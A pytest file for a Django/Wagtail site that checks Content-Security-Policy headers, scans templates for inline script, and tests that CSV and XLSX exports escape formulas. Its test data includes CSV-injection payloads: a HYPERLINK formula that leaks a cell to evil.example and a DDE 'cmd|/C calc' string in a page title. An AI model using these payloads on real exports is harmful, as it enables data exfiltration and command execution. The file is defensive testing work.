"""Point 10 of the hardening issue: a Content-Security-Policy on every page, no
inline script in any template, and formula escaping on every spreadsheet export
(the site's own and Wagtail's listings and reports)."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from openpyxl import load_workbook
from wagtail.log_actions import log

from cms.core.exports import escape_formula
from cms.home.models import HomePage
from portal.common import exports
from tests.factories.users import make_user
from tests.factories.world import make_world

ROOT = Path(settings.BASE_DIR)
# Every directory of templates that the project itself writes.
TEMPLATE_DIRS = [ROOT / "themes" / "templates"] + [
    path
    for package in ("cms", "portal", "search", "api")
    for path in (ROOT / package).glob("**/templates")
]
INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>", re.I)
EVENT_HANDLER = re.compile(r"<[^>]*\son[a-z]+\s*=", re.I)
INLINE_STYLE = re.compile(r"<style\b|<[^>]*\sstyle\s*=", re.I)
JAVASCRIPT_URL = re.compile(r"""(href|src|action)\s*=\s*["']?\s*javascript:""", re.I)

EVIL = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1",
    "-1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _directives(header):
    return {
        part.split()[0]: part.split()[1:]
        for part in (p.strip() for p in header.split(";"))
        if part
    }


# Content-Security-Policy ------------------------------------------------------


def test_templates_have_no_inline_script_handler_or_style():
    offending = []
    files = [f for d in TEMPLATE_DIRS for f in d.glob("**/*.html")]
    assert len(files) > 20  # the scan does see the templates
    for path in files:
        text = path.read_text(encoding="utf-8")
        for pattern in (INLINE_SCRIPT, EVENT_HANDLER, INLINE_STYLE, JAVASCRIPT_URL):
            for match in pattern.finditer(text):
                offending.append(f"{path.relative_to(ROOT)}: {match.group(0)[:60]}")
    assert offending == []


def test_the_scan_finds_what_it_looks_for():
    assert INLINE_SCRIPT.search("<script>alert(1)</script>")
    assert INLINE_SCRIPT.search('<script type="module">x()</script>')
    assert not INLINE_SCRIPT.search('<script src="/static/js/a.js" defer></script>')
    assert EVENT_HANDLER.search('<button type="button" onclick="go()">')
    assert INLINE_STYLE.search('<div style="color: red">')
    assert INLINE_STYLE.search("<style>p {}</style>")
    assert JAVASCRIPT_URL.search('<a href="javascript:go()">')


def _site_urls(world):
    return [
        ("anonymous", "/"),
        ("anonymous", world.course.url),
        ("anonymous", "/search/?q=資訊"),
        ("anonymous", "/accounts/login/"),
        ("anonymous", "/en/"),
        ("anonymous", "/no-such-page/"),
        ("anonymous", "/api/v1/courses/"),
        ("alice", "/my/classes/"),
        ("alice", "/my/hours/"),
        ("alice", f"/my/classes/{world.session.pk}/day/"),
        ("alice", "/licenses/"),
        ("hr_a", "/hr/enrolments/"),
        ("hr_a", "/hr/hours/"),
        ("hr_a", "/hr/nominate/"),
        ("hr_a", f"/hr/people/{world.alice.pk}/"),
    ]


@pytest.fixture
def world(catalog):
    return make_world(catalog)


def _login(client, world, who):
    user = {
        "alice": world.alice.user,
        "hr_a": world.hr_a.user,
        "organizer": world.organizer,
    }.get(who)
    if user is not None:
        client.force_login(user)


def test_every_site_page_carries_the_strict_policy(client, world):
    for who, url in _site_urls(world):
        client.logout()
        _login(client, world, who)
        response = client.get(url)
        assert response.status_code < 500, url
        assert "Content-Security-Policy" in response, (url, response.status_code)
        policy = _directives(response["Content-Security-Policy"])
        assert policy["default-src"] == ["'self'"], url
        assert policy["script-src"] == ["'self'"], url
        assert policy["style-src"] == ["'self'"], url
        assert policy["object-src"] == ["'none'"], url
        assert policy["base-uri"] == ["'self'"], url
        assert policy["frame-ancestors"] == ["'self'"], url
        assert policy["form-action"] == ["'self'"], url


def test_admin_and_api_docs_get_their_own_policy(client, world):
    client.force_login(make_user("root", is_superuser=True, is_staff=True))
    admin = client.get("/admin/")
    assert admin.status_code == 200
    policy = _directives(admin["Content-Security-Policy"])
    assert "'unsafe-inline'" in policy["script-src"]  # Wagtail's inline panels
    assert policy["object-src"] == ["'none'"]
    assert policy["frame-ancestors"] == ["'self'"]

    docs = client.get("/api/v1/docs/")
    assert docs.status_code == 200
    policy = _directives(docs["Content-Security-Policy"])
    assert policy["script-src"] == ["'self'"]  # the split view: script as a file
    assert not INLINE_SCRIPT.search(docs.content.decode())
    script = client.get("/api/v1/docs/?script=")
    assert script.status_code == 200
    assert "SwaggerUIBundle" in script.content.decode()


# Formula escaping ----------------------------------------------------------------


def test_escape_formula_prefixes_what_spreadsheets_evaluate():
    for value in EVIL:
        assert escape_formula(value) == "'" + value
    for value in ("資訊甲", "a=b", "", "1-1", None, 5, -1, 2.5):
        assert escape_formula(value) == value


def _xlsx_cells(content):
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]


def _csv_rows(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_site_exports_escape_every_cell():
    rows = [[value, 1] for value in EVIL]
    book = exports.xlsx_response("x.xlsx", "x", ["=head", "n"], rows)
    cells = _xlsx_cells(book.content)
    assert cells[0][0].value == "'=head"
    for (value, _n), row in zip(rows, cells[1:], strict=True):
        # openpyxl writes through lxml (a pyHanko dependency), which keeps a
        # carriage return as it is.
        assert row[0].value == "'" + value
        assert row[0].data_type == "s"
        assert row[1].value == 1  # numbers stay numbers
    table = _csv_rows(exports.csv_response("x.csv", ["n"], rows).content)
    assert [row[0] for row in table[1:]] == ["'" + value for value in EVIL]


def test_xlsx_export_survives_control_characters():
    book = exports.xlsx_response("x.xlsx", "x", ["a"], [["a\x00b\x07c"]])
    assert _xlsx_cells(book.content)[1][0].value == "abc"


def _evil_person(world):
    person = world.alice
    person.name = EVIL[0]
    person.job_title = "-1"
    person.save(update_fields=["name", "job_title"])
    return person


def test_wagtail_listing_exports_escape_formulas(client, world):
    _evil_person(world)
    client.force_login(make_user("root", is_superuser=True, is_staff=True))
    response = client.get("/admin/people/?export=csv")
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    table = _csv_rows(content)
    names = [row[0] for row in table[1:]]
    assert "'" + EVIL[0] in names
    assert EVIL[0] not in names
    assert any(row[3] == "'-1" for row in table[1:])

    response = client.get("/admin/people/?export=xlsx")
    assert response.status_code == 200
    cells = _xlsx_cells(b"".join(response.streaming_content))
    values = [row[0].value for row in cells[1:]]
    assert "'" + EVIL[0] in values
    assert all(row[0].data_type == "s" for row in cells[1:])


def test_wagtail_reports_escape_formulas(client, world, site_tree):
    home, _catalog = site_tree
    page = HomePage(title="@SUM(1+1)*cmd|' /C calc'!A0", slug="evil")
    home.add_child(instance=page)
    log(instance=page, action="wagtail.create")
    client.force_login(make_user("root", is_superuser=True, is_staff=True))
    response = client.get("/admin/reports/site-history/?export=csv")
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "'@SUM(1+1)" in content
    assert "\n@SUM" not in content and ",@SUM" not in content
